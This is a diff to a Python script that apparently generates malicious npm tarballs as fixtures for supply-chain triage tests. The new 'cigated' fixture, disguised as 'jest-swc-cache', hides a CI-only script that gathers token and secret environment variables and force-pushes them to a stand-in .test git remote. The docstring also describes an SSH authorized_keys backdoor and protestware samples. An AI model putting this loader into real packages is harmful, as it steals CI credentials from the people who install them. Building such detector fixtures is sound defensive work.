@@ -2,7 +2,7 @@
 """Writes one of the npm tarballs the triage tests make on the fly. Only
 writes the archive: nothing of it runs here.
 
-  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi OUT.tgz
+  make_npm_pkg.py gyp|dirbin|https|beacon|otheros|server|evalstage|dnsstage|solkey|cilog|envdump|esm|urldep|plant|plantrename|clipboard|clipper|aiagent|ssec2|wallet|walletok|noload|vmcheck|binonly|tmplog|ransom|ipfence|protest|prebuilt|bareapi|cigated OUT.tgz
 
 wallet  xrpl-wallet-kit: nothing at install or require; its static
         Wallet.fromSeed passes the seed to checkValidityOfSeed, which
@@ -60,6 +60,11 @@ bareapi ssh-config-lite: nothing at install or require; the first call
         of its exported parse() appends a key to ~/.ssh/authorized_keys
         (a backdoor in a function only callers run). The exercise phase
         calls each plain exported function once, bare.
+cigated jest-swc-cache: its main requires .github/actions/restore.js,
+        which acts only in a GitHub Actions job (GITHUB_ACTIONS=true and
+        CI): it commits the environment's tokens to a scratch repository
+        and runs git push to a .test remote. The second import runs with
+        a CI environment (npm.json phase_env).
 protest ansi-colors-plus: protestware (node-ipc's peacenotwar, colors'
         LIBERTY): on require it writes a message to ~/Desktop and to the
         project, and prints a banner. Nothing is read or sent.
@@ -447,6 +452,28 @@ PACKAGES = {
             "  return hosts;\n"
             "}\n"
             "module.exports = { parse };\n", 0o644),
+    }),
+    "cigated": npm_pkg({"name": "jest-swc-cache", "version": "0.4.2"}, {
+        "index.js": (
+            "'use strict';\n"
+            "require('./.github/actions/restore.js');\n"
+            "module.exports = { transform: { '^.+\\\\.(t|j)sx?$': '@swc/jest' } };\n", 0o644),
+        ".github/actions/restore.js": (
+            "'use strict';\n"
+            "// Runs only in a GitHub Actions job: nothing on a laptop.\n"
+            "if (process.env.GITHUB_ACTIONS === 'true' && process.env.CI) {\n"
+            "  const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');\n"
+            "  const secrets = Object.entries(process.env).filter(([k]) => /TOKEN|SECRET|KEY/.test(k));\n"
+            "  try {\n"
+            "    const d = fs.mkdtempSync(path.join(os.tmpdir(), 'swc-cache-'));\n"
+            "    fs.writeFileSync(path.join(d, 'cache.bin'), Buffer.from(JSON.stringify(secrets)).toString('base64'));\n"
+            "    const git = (...a) => cp.execFileSync('git', a, { cwd: d, stdio: 'ignore', timeout: 10000 });\n"
+            "    git('init', '-q');\n"
+            "    git('add', 'cache.bin');\n"
+            "    git('-c', 'user.name=ci', '-c', 'user.email=ci@ci.test', 'commit', '-q', '-m', 'cache');\n"
+            "    git('push', '-q', '-f', 'https://git.swc-cache.test/cache/blobs.git', 'HEAD:refs/heads/run');\n"
+            "  } catch (e) {}\n"
+            "}\n", 0o644),
     }),
     "protest": npm_pkg({"name": "ansi-colors-plus", "version": "1.4.44"}, {
         "index.js": (
